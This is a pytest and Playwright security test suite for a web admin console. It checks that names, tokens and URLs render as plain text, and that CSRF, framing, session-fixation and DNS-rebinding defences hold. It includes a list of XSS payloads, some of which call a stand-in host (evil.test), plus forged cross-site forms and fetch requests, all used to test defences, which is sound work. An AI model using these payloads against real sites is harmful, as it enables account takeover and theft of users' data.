"""What a hostile page, a hostile name or a planted cookie can do to somebody who is signed in: nothing."""

import base64
import functools
import http.server
import json
import threading

import pytest
from console.place import OPERATOR, PASSWORD, READ
from console.steps import choose, settled
from playwright.sync_api import expect

# Each would run, ask another host or break out of its place where text was taken for markup.
NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "\"><script src=//evil.test/x.js></script>",
    "'\"--></style></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button autofocus>x",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{name} {count} {what}",
    "__proto__",
    "<b>bold?</b>",
]

# One of each sort, for what shows one name at a time: elements, an end of what is around it, places of a text.
FEW = [NAMES[number] for number in (0, 1, 5, 17, 19)]


@pytest.fixture(scope="module")
def named(place):
    """An application of each name, owned by a merchant of the same name."""
    return {name: place.register(name, name)["application"]["clientId"] for name in NAMES}


@pytest.fixture
def watched(visit):
    """A page in which every way of a script to make itself heard is counted."""
    page = visit(None)
    page.context.add_init_script(
        "window.heard = 0; for (const name of ['alert', 'confirm', 'prompt', 'print'])"
        " window[name] = () => { window.heard += 1; };")
    return page


def sign_in_by_page(page):
    page.get_by_label("Name", exact=True).fill(OPERATOR)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def judge_markup(page):
    """Nothing of a name became an element: the page has its own one script and two kinds of links, no frame, no handler."""
    assert page.evaluate("""() => [
      window.heard, document.scripts.length,
      document.querySelectorAll(`iframe, base, meta[http-equiv], img, form[action], b, details, math, template, style,
        body script, body link`).length,
      [...document.querySelectorAll("*")].filter((each) => each.getAttributeNames().some((name) => name.startsWith("on"))).length,
      [...document.links].filter((link) => !link.href.startsWith(location.origin)).length]""") == [0, 2, 0, 0, 0]


@pytest.fixture
def inside(watched, place):
    """The page of somebody who has signed in, and `inside.show(path)`, which leads to a page of the console."""
    watched.context.add_cookies([place.api(OPERATOR).cookie])
    watched.reload()

    def show(path):
        watched.goto(f"{place.url}/#/{path}")
        settled(watched)

    watched.show = show
    return watched


def judge_dialog(page, name, action=None):
    """A dialog that has a name in its heading shows it as it is. Then it is left, or gone on from."""
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("heading", level=2)).to_contain_text(name)
    judge_markup(page)
    if action:
        dialog.get_by_role("button", name=action, exact=True).click()
    else:
        page.keyboard.press("Escape")
        expect(dialog).to_have_count(0)


def test_names_are_text_wherever_they_are_shown(watched, place, named):
    page = watched
    page.reload()
    sign_in_by_page(page)
    base = place.url + "/"
    page.goto(base + "#/applications")
    for name, client_id in named.items():
        page.get_by_role("searchbox").fill(name[:60])
        link = page.locator(f'[data-key="{client_id}"] .grid-link')
        expect(link).to_have_text(name)
        judge_markup(page)
        page.goto(f"{base}#/applications/{client_id}")
        expect(page.get_by_role("heading", level=1)).to_have_text(name)
        judge_markup(page)
        page.goto(f"{base}#/applications/{client_id}/edit")
        expect(page.get_by_label("Name", exact=True)).to_have_value(name)
        judge_markup(page)
        page.goto(base + "#/applications")
    page.goto(base + "#/merchants")
    for name in NAMES:
        expect(page.get_by_role("cell", name=name, exact=True)).to_be_visible()
    judge_markup(page)
    page.goto(base + "#/audit")
    for name in NAMES:
        expect(page.get_by_role("link", name=name, exact=True).first).to_be_visible()
    judge_markup(page)


def test_names_are_text_where_a_route_says_who_reaches_it(inside, named):
    inside.show("routes")
    row = inside.get_by_role("row").filter(has_text="/transactions/{id}").filter(has_text="GET")
    row.get_by_role("button").first.click()
    dialog = inside.get_by_role("dialog")
    for name, client_id in named.items():
        item = dialog.get_by_role("listitem").filter(has=inside.locator(f'[href$="{client_id}"]'))
        expect(item.get_by_role("link")).to_have_text(name)
        expect(item.locator(".muted")).to_have_text(name)
    judge_markup(inside)


def test_names_are_text_in_what_explain_suggests_and_tells(inside, named):
    inside.show("explain")
    inside.get_by_label("Path").fill("/transactions/17")
    for name, client_id in named.items():
        inside.get_by_role("combobox", name="Application").fill(name[:60])
        option = inside.get_by_role("option").filter(has_text=client_id)
        expect(option.locator(".option-text")).to_have_text(name)
        expect(option.locator(".option-detail")).to_have_text(f"{name} · {client_id}")
        judge_markup(inside)
        option.click()
        inside.get_by_role("button", name="Explain").click()
        expect(inside.locator(".step-text").filter(has_text=client_id).last).to_have_text(f"{name} ({client_id}) is enabled.")
        judge_markup(inside)


def test_a_pasted_token_is_text(inside):
    """Its claims and their names are anybody's: it is shown before anything of it is verified."""
    inside.show("explain")
    inside.get_by_label("Path").fill("/transactions/17")
    inside.get_by_label("Whoever has this token").check()
    for name in NAMES:
        parts = [{"alg": "ES256", "typ": "at+jwt", "kid": name}, {name: name, "iss": name, "client_id": name, "scope": [name], "exp": 1e9}]
        token = ".".join(base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in [*parts, "x"])
        inside.get_by_label("Token", exact=True).fill(token)
        expect(inside.locator(".decoded dd code").first).to_have_text("ES256")
        # A claim of the name `__proto__` is a claim like another.
        expect(inside.locator(".decoded dt").filter(has_text=name).first).to_have_text(name)
        expect(inside.locator(".decoded dd code").filter(has_text=name).first).to_have_text(name)
        inside.get_by_role("button", name="Explain").click()
        expect(inside.get_by_role("heading", name="Refused")).to_be_visible()
        judge_markup(inside)


def test_names_are_text_among_owners_and_where_a_secret_is_shown(inside, named):
    for name in FEW:
        inside.show("applications/new")
        inside.get_by_label("Name", exact=True).fill(name)
        inside.get_by_role("combobox", name="Owner").fill(name[:60])
        option = inside.locator(".option-text").get_by_text(name, exact=True)
        expect(option).to_be_visible()
        judge_markup(inside)
        option.click()
        expect(inside.get_by_role("combobox", name="Owner")).to_have_value(name)
        choose(inside, READ)
        inside.get_by_role("button", name="Save").click()
        expect(inside.locator("[data-shown=client-secret]")).to_be_visible()
        judge_dialog(inside, name, "I have stored the secret")
        expect(inside.get_by_role("dialog")).to_have_count(0)


def test_names_are_text_where_a_removal_is_confirmed(inside, named):
    for name in FEW:
        inside.show(f"applications/{named[name]}")
        # The heading of the page before may stand for a moment longer.
        expect(inside.locator("h1")).to_have_text(name)
        for action in ("Disable", "Revoke tokens", "Remove application"):
            inside.get_by_role("button", name=action).click()
            judge_dialog(inside, name)


def test_names_are_text_where_two_have_edited(inside, place):
    client_id = place.register("Two editors")["application"]["clientId"]
    for mine, theirs in zip(FEW, FEW[1:] + FEW[:1]):
        inside.show(f"applications/{client_id}/edit")
        field = inside.get_by_label("Name", exact=True)
        now = place.operator.get(f"applications/{client_id}")
        expect(field).to_have_value(now["name"])
        place.operator.patch(f"applications/{client_id}", now["version"], name=theirs)
        field.fill(mine)
        inside.get_by_role("button", name="Save", exact=True).click()
        sides = inside.get_by_role("dialog").locator("[data-field=name] .choice label > :last-child")
        expect(sides).to_have_text([mine, theirs])
        judge_markup(inside)
        # What is saved here is said at the foot of the list.
        inside.get_by_role("button", name="Save this choice").click()
        expect(inside.get_by_role("status").filter(has_text=mine)).to_be_visible()
        judge_markup(inside)


def test_names_of_merchants_and_accounts_are_text_in_their_dialogs(inside, place, named):
    merchants = {each["name"]: each["id"] for each in place.operator.get("merchants", limit=500)["items"]}
    for name in NAMES:
        place.operator.post("accounts", name=name, role="merchant", merchantId=merchants[name])
    inside.show("merchants")
    for name in FEW:
        for action in ("Edit", "Remove"):
            inside.get_by_role("button", name=f"{action} {name}", exact=True).click()
            judge_dialog(inside, name)
    inside.show("accounts")
    for name in NAMES:
        row = inside.get_by_role("row").filter(has=inside.get_by_role("button", name=f"Edit {name}", exact=True))
        expect(row.locator("strong")).to_have_text(name)
        expect(row.locator(".muted").first).to_have_text(f"· {name}")
    judge_markup(inside)
    for name in FEW:
        edit = inside.get_by_role("button", name=f"Edit {name}", exact=True)
        edit.click()
        expect(inside.get_by_role("combobox", name="Merchant")).to_have_value(name)
        judge_dialog(inside, name, "Reset the password")
        judge_dialog(inside, name, "Reset the password")
        expect(inside.locator("[data-shown=invitation]")).to_be_visible()
        judge_dialog(inside, name, "Done")
        edit.click()
        judge_dialog(inside, name, "Remove")
        judge_dialog(inside, name)


def test_names_of_api_tokens_are_text_in_both_lists(inside, place):
    """The person who has them is called like markup as well: at the foot of the menu, in the audit and among whom it suggests."""
    person = NAMES[1] + NAMES[-1]
    place.operator.post("accounts", name=person, role="reader", password=PASSWORD)
    api = place.api(person)
    for name in NAMES:
        api.post("me/tokens", name=name, permissions=["audit:read"])
    inside.show("accounts")
    inside.get_by_role("button", name=f"Edit {person}", exact=True).click()
    dialog = inside.get_by_role("dialog", name=person, exact=True)
    expect(dialog.locator("[data-token]")).to_have_count(len(NAMES))
    assert sorted(dialog.locator("[data-token] strong").all_text_contents()) == sorted(NAMES)
    judge_markup(inside)
    inside.show("audit")
    expect(inside.get_by_role("cell", name=person, exact=True).first).to_be_visible()
    inside.get_by_role("combobox", name="Who").fill(person[:60])
    expect(inside.locator(".option-text")).to_have_text(f"account:{person}")
    judge_markup(inside)
    inside.context.add_cookies([api.cookie])
    inside.goto("about:blank")
    inside.show("me")
    expect(inside.locator(".me-name")).to_contain_text(person)
    expect(inside.locator("[data-token]")).to_have_count(len(NAMES))
    assert sorted(inside.locator("[data-token] strong").all_text_contents()) == sorted(NAMES)
    for name in FEW:
        inside.get_by_role("button", name=f"Remove {name}", exact=True).click()
        judge_dialog(inside, name)


@pytest.mark.parametrize("address", [
    "#/applications/%3Cimg%20src=x%20onerror=alert(1)%3E", "#/%3Cscript%3Ealert(1)%3C/script%3E", "#javascript:alert(1)",
    "#/applications/..%2F..%2Fme", "#/welcome/%3Csvg%20onload=alert(1)%3E", "#/applications/%", "#/__proto__", "#/constructor",
])
def test_addresses_are_text_as_well(watched, place, address):
    page = watched
    page.reload()
    sign_in_by_page(page)
    page.goto(f"{place.url}/{address}")
    expect(page.locator("h1")).to_be_visible()
    judge_markup(page)


# MARK: Other pages

class Elsewhere(http.server.BaseHTTPRequestHandler):
    """A site of somebody else's."""

    def __init__(self, content, *arguments):
        self.content = content
        super().__init__(*arguments)

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.content().encode())

    def log_message(self, *arguments):
        pass


@pytest.fixture
def elsewhere():
    """Serves a page at another origin of the same site (`127.0.0.1` of another port) and at another site (`localhost`)."""
    servers = []

    def serve(text):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Elsewhere, lambda: text))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return server.server_address[1]

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def victim(browser, place):
    """Somebody who is signed in, and who opens a page of somebody else's. Not judged: that page may break its own rules."""
    context = browser.new_context(base_url=place.url)
    context.add_cookies([place.api(OPERATOR).cookie])
    yield context.new_page()
    context.close()


def test_what_makes_markup_of_text_is_shut_off(victim, place):
    """The net below the pages' own care: even a mistake in them makes no markup, and no script out of text."""
    victim.goto(place.url)
    settled(victim)
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write('x')", "document.createElement('script').src = '/scripts/main.js'",
        "document.createElement('iframe').srcdoc = 'x'", "trustedTypes.createPolicy('own', {})",
    ):
        tried = f"() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }}"
        assert victim.evaluate(tried) == "TypeError", attempt
    # What the pages do instead is not shut off.
    assert victim.evaluate("() => { document.body.append('x'); return 'done'; }") == "done"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_form_of_another_page_changes_nothing(victim, place, elsewhere, host):
    client_id = place.register("Forged upon")["application"]["clientId"]
    path = f"{place.url}/api/v1/applications/{client_id}"
    port = elsewhere(f"""<form method=post action="{path}/disable" enctype="text/plain"><input name=x></form>
      <script>document.forms[0].submit()</script>""")
    with victim.expect_response(f"{path}/disable") as answer:
        victim.goto(f"http://{host}:{port}/")
    assert answer.value.status in (401, 403, 415)
    assert place.operator.get(f"applications/{client_id}")["enabled"]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_script_of_another_page_changes_and_reads_nothing(victim, place, elsewhere, host):
    client_id = place.register("Forged upon")["application"]["clientId"]
    port = elsewhere("<p>Elsewhere")
    victim.goto(f"http://{host}:{port}/")
    outcomes = victim.evaluate("""async ([base, id]) => {
      const path = base + "/api/v1/applications/" + id;
      const attempts = [
        [path + "/disable", { method: "POST", mode: "no-cors" }],
        [path + "/disable", { method: "POST", mode: "no-cors", body: "{}", headers: { "Content-Type": "text/plain" } }],
        [path + "/disable", { method: "POST", headers: { "X-CSRF-Token": "x" } }],
        [path, { method: "DELETE" }], [path, {}], [base + "/api/v1/session", {}],
      ];
      return Promise.all(attempts.map(([url, options]) => fetch(url, { credentials: "include", ...options })
        .then((answer) => answer.type === "opaque" ? "opaque" : answer.text(), () => "failed")));
    }""", [place.url, client_id])
    # An opaque answer tells the script nothing; what it did, the next line tells.
    assert set(outcomes) <= {"opaque", "failed"}
    assert place.operator.get(f"applications/{client_id}")["enabled"]


def test_a_request_with_the_session_alone_is_refused(place):
    client_id = place.register("Forged upon")["application"]["clientId"]
    api = place.api(OPERATOR)
    token = api.http.headers.pop("X-CSRF-Token")
    for headers in ({}, {"X-CSRF-Token": "wrong"}, {"X-CSRF-Token": place.operator.http.headers["X-CSRF-Token"]},
                    {"X-CSRF-Token": token, "Origin": "http://evil.test"},
                    {"X-CSRF-Token": token, "Sec-Fetch-Site": "cross-site"}):
        assert api.send("POST", f"applications/{client_id}/disable", headers=headers).status_code == 403, headers
    assert place.operator.get(f"applications/{client_id}")["enabled"]
    right = {"X-CSRF-Token": token, "Origin": place.url, "Sec-Fetch-Site": "same-origin"}
    assert api.send("POST", f"applications/{client_id}/disable", headers=right).status_code == 200


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_that_frames_the_console_shows_nothing_of_it(victim, place, elsewhere, host):
    port = elsewhere(f'<iframe src="{place.url}/" width=800 height=600></iframe>')
    with victim.expect_response(place.url + "/"):
        victim.goto(f"http://{host}:{port}/")
    frame = victim.frames[1]
    expect(frame.locator("#root")).to_have_count(0)
    assert frame.url == "chrome-error://chromewebdata/"
    # Unframed, the same address shows the console.
    victim.goto(place.url)
    expect(victim.get_by_role("button", name="Sign out")).to_be_visible()


# MARK: Cookies

def test_a_planted_session_is_not_the_one_that_is_signed_in(visit, place):
    """Session fixation: whoever plants a cookie before somebody signs in knows nothing afterwards."""
    planted = place.api("bo").cookie
    made_up = planted | {"value": "A" * len(planted["value"])}
    for cookie in (planted, made_up):
        page = visit(None)
        page.context.add_cookies([cookie])
        page.reload()
        if cookie is planted:
            page.get_by_role("button", name="Sign out").click()
            page.context.add_cookies([cookie])
        sign_in_by_page(page)
        now = [each for each in page.context.cookies() if each["name"] == "tollgate_session"]
        assert len(now) == 1 and now[0]["value"] != cookie["value"]
        assert now[0]["httpOnly"] and now[0]["sameSite"] == "Strict"
        # What was planted opens nothing.
        stranger = place.api("bo")
        stranger.http.cookies.clear()
        stranger.http.cookies.set("tollgate_session", cookie["value"])
        assert stranger.send("GET", "me").status_code == 401


def test_each_sign_in_makes_a_session_of_its_own(place):
    assert place.api(OPERATOR).cookie["value"] != place.api(OPERATOR).cookie["value"]


def test_scripts_do_not_see_the_session(page):
    settled(page)
    assert page.evaluate("document.cookie") == ""


def test_a_name_that_leads_here_by_a_trick_is_not_served(place):
    """DNS rebinding: the browser of a victim believes that a hostile name is this address."""
    answer = place.operator.http.get(place.url + "/", headers={"Host": "evil.test"}, timeout=20)
    assert answer.status_code == 421
    assert place.operator.send("GET", "applications", headers={"Host": "evil.test"}).status_code == 421
